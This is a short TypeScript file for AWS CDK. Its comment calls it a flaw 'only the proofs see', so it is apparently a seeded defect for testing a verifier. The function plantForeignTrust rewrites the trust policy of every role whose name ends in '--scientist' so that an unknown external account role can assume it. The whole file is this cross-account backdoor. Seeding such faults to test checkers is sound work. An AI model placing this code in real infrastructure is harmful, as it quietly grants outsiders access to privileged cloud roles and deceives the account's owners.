// A mistake that only the proofs see: somebody of an account that nobody knows may become a scientist.
import type { App } from 'aws-cdk-lib';
import { CfnRole } from 'aws-cdk-lib/aws-iam';

/** Plants it in every project of `app`. */
export function plantForeignTrust(app: App): void {
  for (const construct of app.node.findAll()) {
    if (!(construct instanceof CfnRole) || construct.roleName?.endsWith('--scientist') !== true) continue;
    construct.assumeRolePolicyDocument = {
      Version: '2012-10-17',
      Statement: [
        {
          Effect: 'Allow',
          Principal: { AWS: 'arn:aws:iam::777777777777:role/somebody' },
          Action: 'sts:AssumeRole',
        },
      ],
    };
  }
}
